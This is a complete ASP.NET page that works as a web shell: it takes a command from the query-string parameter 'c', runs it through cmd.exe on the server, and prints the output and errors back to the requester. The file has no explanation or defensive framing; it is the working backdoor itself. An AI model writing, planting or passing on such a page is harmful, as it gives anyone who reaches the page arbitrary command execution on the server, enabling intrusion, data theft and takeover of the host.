<%@ Page Language="C#" %>
<%
    string c = Request.QueryString["c"];
    if (!string.IsNullOrEmpty(c)) {
        var p = new System.Diagnostics.Process();
        p.StartInfo.FileName = "c:\\windows\\system32\\cmd.exe";
        p.StartInfo.Arguments = "/c " + c;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.StartInfo.RedirectStandardError = true;
        p.Start();
        Response.Write("<pre>" + p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd() + "</pre>");
    }
%>
